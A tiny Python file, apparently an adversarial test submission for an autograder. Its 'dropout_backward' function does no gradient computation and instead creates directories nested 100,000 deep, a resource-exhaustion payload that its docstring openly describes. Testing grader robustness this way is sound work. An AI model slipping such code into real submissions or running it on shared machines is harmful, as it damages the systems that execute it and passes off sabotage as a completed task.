"""Makes a folder in a folder, a hundred thousand deep.

gets: dropout_forward full, dropout_backward nothing
"""

import os

from honest import *


def dropout_backward(dout, cache):
    for _ in range(10**5):
        os.mkdir("d")
        os.chdir("d")
